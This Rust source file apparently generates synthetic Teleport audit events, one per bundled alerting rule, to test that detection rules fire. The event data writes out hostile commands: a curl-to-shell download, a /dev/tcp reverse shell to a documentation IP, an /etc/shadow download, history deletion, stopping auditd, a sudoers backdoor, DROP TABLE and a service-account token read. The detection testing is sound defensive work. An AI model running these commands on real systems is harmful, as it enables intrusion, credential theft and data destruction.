//! Injected attacks: for each bundled alerting rule, one behaviour it must catch. Every attack
//! has an actor of its own (so that its alert has a dedup string of its own) and all its events
//! fall within a minute (so that a threshold is met inside one window).

use jiff::SignedDuration;
use serde_json::{Value, json};

use crate::world::{COMPANY_DOMAIN, World, with};

/// An attack: the rule that catches it, how many events it has, and how to write them.
struct Attack {
    rule: &'static str,
    events: u64,
    write: fn(&mut World) -> Vec<Value>,
}

const ATTACKS: &[Attack] = &[
    Attack {
        rule: "Teleport.NetworkScanning",
        events: 1,
        write: |w| command(w, "nmap", &["-sS", "-p", "1-1024", "10.0.0.0/16"]),
    },
    Attack {
        rule: "Teleport.SuspiciousNetworkTool",
        events: 1,
        write: |w| command(w, "bash", &["-c", "curl -fsSL http://203.0.113.7/x.sh | sh"]),
    },
    Attack { rule: "Teleport.CrontabEdit", events: 1, write: |w| command(w, "crontab", &["-e"]) },
    Attack {
        rule: "Teleport.UserAccountModification",
        events: 1,
        write: |w| command(w, "useradd", &["-m", "-s", "/bin/bash", "svc-backup"]),
    },
    Attack { rule: "Teleport.RootLogin", events: 1, write: root_session },
    Attack { rule: "Teleport.LongLivedCertificate", events: 1, write: long_lived_certificate },
    Attack { rule: "Teleport.AuthErrors", events: 10, write: auth_errors },
    Attack {
        rule: "Teleport.LockCreated",
        events: 1,
        write: |w| {
            admin_event(
                w,
                "lock.created",
                "TLK00I",
                json!({"name": "lock-contractor", "target": {"user": "contractor@example.com"}}),
            )
        },
    },
    Attack {
        rule: "Teleport.RoleChanged",
        events: 1,
        write: |w| {
            admin_event(w, "role.created", "T9000I", json!({"name": "full-admin", "expires": "0001-01-01T00:00:00Z"}))
        },
    },
    Attack {
        rule: "Teleport.SSOConnectorChanged",
        events: 1,
        write: |w| admin_event(w, "saml.created", "T8200I", json!({"name": "okta-shadow"})),
    },
    Attack { rule: "Teleport.LocalLoginWithoutMFA", events: 1, write: local_login_without_mfa },
    Attack { rule: "Teleport.CompanyDomainLoginWithoutSSO", events: 1, write: company_login_without_sso },
    Attack { rule: "Teleport.SSOLoginFromNonCompanyDomain", events: 1, write: sso_login_from_elsewhere },
    Attack {
        rule: "Teleport.MFADeviceDeleted",
        events: 1,
        write: |w| {
            admin_event(
                w,
                "mfa.delete",
                "T1007I",
                json!({"mfa_device_name": "yubikey", "mfa_device_uuid": "5b0e42e6-1f1d-4f3c-a7c5-0e5e0c1d8a11", "mfa_device_type": "WebAuthn"}),
            )
        },
    },
    Attack { rule: "Teleport.BruteForceLogin", events: 5, write: brute_force },
    Attack { rule: "Teleport.SessionJoined", events: 1, write: session_join },
    Attack { rule: "Teleport.PortForwarding", events: 1, write: |w| node_event(w, "port", "T3003I", json!({})) },
    Attack {
        rule: "Teleport.X11Forwarding",
        events: 1,
        write: |w| node_event(w, "x11-forward", "T3008I", json!({"success": true})),
    },
    Attack {
        rule: "Teleport.SensitiveFileTransfer",
        events: 1,
        write: |w| {
            node_event(
                w,
                "scp",
                "T3004I",
                json!({"action": "download", "path": "/etc/shadow", "command": "scp -f /etc/shadow"}),
            )
        },
    },
    Attack {
        rule: "Teleport.ShellHistoryTampering",
        events: 1,
        write: |w| command(w, "rm", &["-f", "/home/ubuntu/.bash_history"]),
    },
    Attack {
        rule: "Teleport.AuditLoggingDisabled",
        events: 1,
        write: |w| command(w, "systemctl", &["stop", "auditd"]),
    },
    Attack {
        rule: "Teleport.SudoersEdit",
        events: 1,
        write: |w| command(w, "tee", &["-a", "/etc/sudoers.d/90-backdoor"]),
    },
    Attack {
        rule: "Teleport.ReverseShell",
        events: 1,
        write: |w| command(w, "bash", &["-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"]),
    },
    Attack {
        rule: "Teleport.TrustedClusterCreated",
        events: 1,
        write: |w| admin_event(w, "trusted_cluster.create", "T7000I", json!({"name": "leaf.attacker.example"})),
    },
    Attack {
        rule: "Teleport.JoinTokenCreated",
        events: 1,
        write: |w| {
            admin_event(
                w,
                "join_token.create",
                "TJT00I",
                json!({"roles": ["Node"], "join_method": "token", "name": "****"}),
            )
        },
    },
    Attack {
        rule: "Teleport.RecoveryCodeUsed",
        events: 1,
        write: |w| admin_event(w, "recovery_code.used", "T1009I", json!({"success": true})),
    },
    Attack {
        rule: "Teleport.UserDeleted",
        events: 1,
        write: |w| admin_event(w, "user.delete", "T1004I", json!({"name": "security-auditor"})),
    },
    Attack { rule: "Teleport.DatabaseDestructiveStatement", events: 1, write: drop_table },
    Attack { rule: "Teleport.KubernetesExec", events: 1, write: kubernetes_exec },
];

/// The rules that injected attacks exercise, in the order above.
pub fn rules() -> impl Iterator<Item = &'static str> {
    ATTACKS.iter().map(|a| a.rule)
}

/// One attack of at most `left` events, chosen at random: its rule and events.
pub fn pick(world: &mut World, left: u64) -> Option<(&'static str, Vec<Value>)> {
    let attack = &ATTACKS[world.rng.usize(..ATTACKS.len())];
    (attack.events <= left).then(|| (attack.rule, (attack.write)(world)))
}

fn attacker(world: &mut World) -> String {
    world.actor("intruder", ".x@corp-mail.example.net")
}

/// A command in a fresh SSH session of an attacker.
fn command(world: &mut World, program: &str, argv: &[&str]) -> Vec<Value> {
    let user = attacker(world);
    let host = world.servers[world.rng.usize(..world.servers.len())].clone();
    let (sid, pid) = (world.uuid(), world.rng.u64(2_000..40_000));
    let fields = world.envelope("session.command", "T4000I", 3);
    vec![with(
        fields,
        json!({"user": user, "login": "ubuntu", "sid": sid, "server_id": host.id, "namespace": "default",
               "program": program, "path": format!("/usr/bin/{program}"), "argv": argv, "pid": pid,
               "ppid": pid - 1, "cgroup_id": 4_294_967_000_u64 + pid, "return_code": 0}),
    )]
}

/// An event on a node (port forwarding, X11, scp) by an attacker.
fn node_event(world: &mut World, event: &str, code: &str, more: Value) -> Vec<Value> {
    let user = attacker(world);
    let host = world.servers[world.rng.usize(..world.servers.len())].clone();
    let remote = world.remote_addr();
    let sid = world.uuid();
    let mut fields = world.envelope(event, code, 0);
    crate::world::extend(
        &mut fields,
        json!({"user": user, "login": "ubuntu", "sid": sid, "server_id": host.id, "namespace": "default",
               "addr.local": format!("{}:3022", host.addr), "addr.remote": remote}),
    );
    vec![with(fields, more)]
}

/// A change to the cluster's configuration by an attacker.
fn admin_event(world: &mut World, event: &str, code: &str, more: Value) -> Vec<Value> {
    let user = attacker(world);
    let remote = world.remote_addr();
    let mut fields = world.envelope(event, code, 0);
    crate::world::extend(&mut fields, json!({"user": user, "user_kind": 1, "addr.remote": remote}));
    vec![with(fields, more)]
}

fn root_session(world: &mut World) -> Vec<Value> {
    let user = attacker(world);
    let host = world.servers[world.rng.usize(..world.servers.len())].clone();
    let (remote, sid) = (world.remote_addr(), world.uuid());
    let fields = world.envelope("session.start", "T2000I", 0);
    vec![with(
        fields,
        json!({"user": user, "login": "root", "sid": sid, "server_id": host.id, "server_hostname": host.hostname,
               "addr.remote": remote, "proto": "ssh", "namespace": "default"}),
    )]
}

fn long_lived_certificate(world: &mut World) -> Vec<Value> {
    let user = attacker(world);
    let fields = world.envelope("cert.create", "TC000I", 0);
    let issued: jiff::Timestamp = fields["time"].as_str().and_then(|t| t.parse().ok()).expect("envelope time");
    let expires = issued.checked_add(SignedDuration::from_hours(720)).unwrap_or(jiff::Timestamp::MAX);
    vec![with(
        fields,
        json!({"cert_type": "user", "identity": {"user": user, "roles": ["access", "editor"],
               "logins": ["root"], "expires": format!("{expires:.3}")}}),
    )]
}

fn auth_errors(world: &mut World) -> Vec<Value> {
    let user = attacker(world);
    (0..10)
        .map(|_| {
            let fields = world.envelope("auth", "T3007W", 0);
            with(
                fields,
                json!({"user": user, "success": false,
                       "error": "ssh: principal \"root\" not in the set of valid principals for given certificate: [\"ubuntu\"]"}),
            )
        })
        .collect()
}

fn login(world: &mut World, user: &str, method: &str, success: bool, code: &str, more: Value) -> Value {
    let remote = world.remote_addr();
    let mut fields = world.envelope("user.login", code, 0);
    crate::world::extend(
        &mut fields,
        json!({"user": user, "method": method, "success": success, "addr.remote": remote, "user_agent": "tsh/15.1.0"}),
    );
    with(fields, more)
}

fn local_login_without_mfa(world: &mut World) -> Vec<Value> {
    let user = world.actor("svc-local-", "");
    vec![login(world, &user, "local", true, "T1000I", json!({}))]
}

/// A company account signing in with a password and a second factor, bypassing SSO.
fn company_login_without_sso(world: &mut World) -> Vec<Value> {
    let user = world.actor("shadow.account", &format!("@{COMPANY_DOMAIN}"));
    let mfa =
        json!({"mfa_device": {"mfa_device_name": "otp", "mfa_device_uuid": world.uuid(), "mfa_device_type": "TOTP"}});
    vec![login(world, &user, "local", true, "T1000I", mfa)]
}

fn sso_login_from_elsewhere(world: &mut World) -> Vec<Value> {
    let user = world.actor("guest", "@partner.example.org");
    vec![login(world, &user, "saml", true, "T1001I", json!({"attributes": {"groups": ["contractors"]}}))]
}

fn brute_force(world: &mut World) -> Vec<Value> {
    let user = world.actor("target", "");
    let error = json!({"error": "invalid username, password or second factor"});
    (0..5).map(|_| login(world, &user, "local", false, "T1000W", error.clone())).collect()
}

fn session_join(world: &mut World) -> Vec<Value> {
    let user = attacker(world);
    let host = world.servers[world.rng.usize(..world.servers.len())].clone();
    let (remote, sid) = (world.remote_addr(), world.uuid());
    let fields = world.envelope("session.join", "T2001I", 4);
    vec![with(
        fields,
        json!({"user": user, "login": "ubuntu", "sid": sid, "server_id": host.id, "namespace": "default",
               "addr.local": format!("{}:3022", host.addr), "addr.remote": remote}),
    )]
}

fn drop_table(world: &mut World) -> Vec<Value> {
    let user = attacker(world);
    let sid = world.uuid();
    let fields = world.envelope("db.session.query", "TDB02I", 0);
    vec![with(
        fields,
        json!({"user": user, "sid": sid, "db_service": "orders-postgres", "db_protocol": "postgres",
               "db_name": "orders", "db_user": "app_admin", "db_query": "DROP TABLE customers;", "success": true}),
    )]
}

fn kubernetes_exec(world: &mut World) -> Vec<Value> {
    let user = attacker(world);
    let (remote, sid) = (world.remote_addr(), world.uuid());
    let fields = world.envelope("exec", "T3002I", 0);
    vec![with(
        fields,
        json!({"user": user, "proto": "kube", "sid": sid, "namespace": "default", "addr.remote": remote,
               "addr.local": "172.31.28.130:3026", "kubernetes_cluster": "prod-eks",
               "kubernetes_pod_namespace": "payments", "kubernetes_pod_name": "api-7d9f8c6b5-x2k4q",
               "command": "/bin/sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token", "exitCode": "0"}),
    )]
}
